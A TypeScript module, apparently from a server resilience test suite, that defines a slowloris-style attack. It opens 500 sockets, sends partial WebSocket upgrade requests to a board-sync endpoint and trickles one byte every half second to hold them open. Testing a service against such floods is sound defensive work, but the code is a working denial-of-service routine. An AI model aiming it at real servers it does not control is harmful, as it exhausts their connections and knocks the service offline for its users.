import { connect } from 'node:net'
import type { Attack } from './attack.ts'

const many = 500

/** Connections that begin to ask for an upgrade and then send a letter every now and then. */
export const slowUpgrades: Attack = async ({ server, boardId }, endings) => {
  const { hostname, port } = new URL(server)
  const begin = () => {
    const socket = connect(Number(port), hostname, () => {
      socket.write(`GET /sync/${boardId}/board HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nX-Slow: `)
    })
    const timer = setInterval(() => socket.write('x'), 500)
    socket.on('data', (bytes) => endings.addAnswer(bytes))
    socket.on('error', () => undefined)
    socket.on('close', () => clearInterval(timer))
    return new Promise<void>((resolve) => socket.on('connect', () => resolve()))
  }
  await Promise.all(Array.from({ length: many }, begin))
}
